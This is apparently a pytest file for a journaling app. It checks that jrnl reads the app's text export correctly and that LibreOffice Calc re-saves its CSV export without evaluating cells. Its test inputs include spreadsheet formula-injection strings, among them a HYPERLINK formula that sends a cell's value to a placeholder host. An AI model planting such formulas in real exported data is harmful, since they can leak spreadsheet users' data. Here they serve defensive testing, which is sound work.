"""Other programs read what is exported for them, wherever one of them is on this computer.

jrnl is looked for where ``python benchmarks/jrnl.py`` puts it, and on the path; LibreOffice on the path.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from comfort_journal.interchange import csv_table
from comfort_journal.interchange.export import csv_files, jrnl_text
from comfort_journal.interchange.names import NO_NAMES
from comfort_journal.records import Entry

if TYPE_CHECKING:
    from collections.abc import Sequence

CHECKOUT = Path(__file__).parents[2]
JRNL = next(filter(None, (shutil.which("jrnl", path=str(CHECKOUT / ".venv/jrnl/bin")), shutil.which("jrnl"))), None)
OFFICE = shutil.which("soffice")
CONFIG = """\
colors: {{body: none, date: none, tags: none, title: none}}
default_hour: 9
default_minute: 0
editor: ''
encrypt: false
highlight: false
indent_character: '|'
journals: {{default: {{journal: {journal}}}}}
linewrap: 79
tagsymbols: '@'
template: false
timeformat: '%F %H:%M'
version: '4.6'
"""


def entry(
    number: int, text: str, tags: Sequence[str] = (), *, starred: bool = False, prompt: str | None = None
) -> Entry:
    """Return an entry of the fifth of January."""
    return Entry(
        id=f"00000000-0000-4000-8000-{number:012}",
        at=f"2026-01-05T{10 + number}:40:00+01:00",
        prompt=prompt,
        text=text,
        tags=tuple(tags),
        starred=starred,
        session=None,
        source="app",
    )


@pytest.mark.skipif(JRNL is None, reason="jrnl is not on this computer; python benchmarks/jrnl.py installs it")
def test_jrnl_reads_what_was_exported_for_it(tmp_path: Path) -> None:
    """Entries, times, stars, tags and titles; and no line of somebody's words begins an entry of its own."""
    words = "Warm feet. And tea.\n[2026-01-05 21:40] is no entry.\n[yesterday evening] nor is this.\n\nThe end."
    entries = [
        entry(1, words, ["sleep", "warm bath"]),
        entry(2, "Sun.", starred=True, prompt="What felt safe?"),
        entry(3, "Rain\nand wind", ["Sleep"]),
    ]
    journal = tmp_path / "journal.txt"
    journal.write_bytes(jrnl_text.page(entries))
    (tmp_path / "jrnl.yaml").write_text(CONFIG.format(journal=journal))
    assert JRNL is not None
    told = subprocess.run(
        [JRNL, "--config-file", str(tmp_path / "jrnl.yaml"), "--format", "json"],
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin", "PYTHON_KEYRING_BACKEND": "keyring.backends.null.Keyring"},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=True,
        timeout=60,
    ).stdout
    found = json.loads(told)["entries"]
    assert [(each["date"], each["time"], each["title"], each["starred"], sorted(each["tags"])) for each in found] == [
        ("2026-01-05", "11:40", "Warm feet. And tea.", False, ["@sleep", "@warm-bath"]),
        ("2026-01-05", "12:40", "What felt safe?", True, []),
        ("2026-01-05", "13:40", "Rain", False, ["@sleep"]),
    ]
    assert (
        f"\n{found[0]['body']}".replace("\n [", "\n[")
        == f"{words.removeprefix('Warm feet. And tea.')}\n\n@sleep @warm-bath"
    )
    assert found[1]["body"] == "Sun."


@pytest.mark.soak
@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not on this computer; Debian has it as libreoffice-calc")
def test_libreoffice_calc_shows_the_words_and_runs_none_of_them(tmp_path: Path) -> None:
    """A table that was saved there again has the same records: no formula was worked out, no letter and no row lost."""
    texts = ["=1+1", '=HYPERLINK("http://x/?"&A1)', "+1, - and @home; tea", "two\nlines", 'naïve "café" 😀', "\ttab"]
    entries = [entry(number, text, ["a, b", "warm bath"]) for number, text in enumerate(texts, start=1)]
    data = csv_files.table("entry", entries, NO_NAMES)
    (tmp_path / "entry.csv").write_bytes(data)
    assert OFFICE is not None
    utf8_with_commas = "44,34,76,1"
    told = subprocess.run(
        [
            OFFICE, f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
            f"--infilter=CSV:{utf8_with_commas}", "--convert-to",
            f"csv:Text - txt - csv (StarCalc):{utf8_with_commas},,0,true,true", "--outdir", "out",
            "entry.csv",
        ],
        cwd=tmp_path,
        capture_output=True,
        check=True,
        timeout=120,
    )  # fmt: skip
    said = [line for line in told.stderr.decode().splitlines() if "javaldx" not in line]
    assert said == []
    assert csv_table.load((tmp_path / "out" / "entry.csv").read_bytes()) == csv_table.load(data) == entries
